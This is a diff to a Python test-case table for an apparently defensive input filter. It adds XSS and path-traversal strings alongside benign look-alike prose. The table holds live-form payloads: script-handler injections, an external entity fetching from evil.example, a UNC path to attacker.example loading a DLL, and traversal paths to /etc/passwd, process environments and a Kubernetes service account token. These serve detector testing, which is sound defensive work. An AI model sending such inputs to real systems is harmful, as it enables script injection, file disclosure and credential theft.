@@ -24,6 +24,7 @@ CASES: tuple[Case, ...] = (
         ("<svg/onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=confirm(1)>",
          "document/*x*/./*y*/cookie", "top[/*a*/'al'+'ert'](1)", "(document)['cookie']", "prompt()",
          "(document/*c*/)['cookie']",
+         '<span datasrc=#i datafld=c dataformatas=html></span>', "<x DATAFORMATAS = 'HTML'>",
          # unquoted attribute injection with any handler name; attributes that take a URL or code
          "x onpointerrawupdate=alert(1)", "  onbeforexyz= =1", "x' formaction=//evil.example",
          # tags spelled apart or behind a namespace prefix
@@ -59,7 +60,8 @@ CASES: tuple[Case, ...] = (
          "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//", "on<b>mouse</b>over=x", "confirm<i>(1)",
          # an XML entity declaration, and a comment closer as a whole value
          '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">', "foo!ENTITY bar PUBLIC", "-->"),
-        ("Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun",
+        ("Export: dataformatas html is an old IE attribute",
+         "Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun",
          "the document (signed) cookie policy", "top [10] picks", "confirm (yes/no)",
          "I <3 this, a < b > c", "turn it on (online only)", "My config: ONBOOT=yes BOOTPROTO=dhcp", "Mr O'Brien onboarding=done", "a=1; onboarding=done", "x==online==y",
          "The `<form>` element, <b>bold</b>", "<b>bold</b> and <i>italic</i>",
@@ -86,6 +88,7 @@ CASES: tuple[Case, ...] = (
         "PathTraversal",
         ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//proc/self/environ",
          "file=..\\pineapple", "page=../index", "..;/admin", "0x5c0x2e./", "0x2f0x2e0x2e0x2fx", "/sys/class",
+         "..0x2fboot.ini", "..0x5c..0x5cwin.ini",
          '--b\r\nContent-Disposition: form-data; name="f"; filename="../a.7z"\r\n\r\nx\r\n--b--\r\n',
          "..\u2215..\u2215etc\u2215passwd", "..%2f..%2fetc", "..%c0%af..%c0%afetc/hosts", "\\\\?\\C:\\x",
          "\\\\attacker.example\\share\\x.dll", "WEB-INF/web.xml", "%uff0e%uff0e%u2215etc",
@@ -97,7 +100,8 @@ CASES: tuple[Case, ...] = (
          "/etc/machine-id", "/proc/sched_debug", "/var/spool/cron/crontabs/root",
          "/usr/local/etc/php/php.ini",
          "/run/secrets/kubernetes.io/serviceaccount/token"),
-        ("see ../docs/readme.md", "our share is \\\\fileserver\\reports", "web-inf folder docs", "3 ∕ 4 cup", "/etc is a directory name", "1/2 cup", "import x from '../utils'",
+        ("registers 0..0x2f are reserved",
+         "see ../docs/readme.md", "our share is \\\\fileserver\\reports", "web-inf folder docs", "3 ∕ 4 cup", "/etc is a directory name", "1/2 cup", "import x from '../utils'",
          "wait..; then go", "the /docs/../ path in prose", "ecosystem/classic", "0x2e is a dot",
          'path = os.path.join(base, "..", "data")', "edit .git/config to add a remote",
          "edit wp-config.php (it holds the keys)", "map \\\\nas\\backup$ as drive Z",
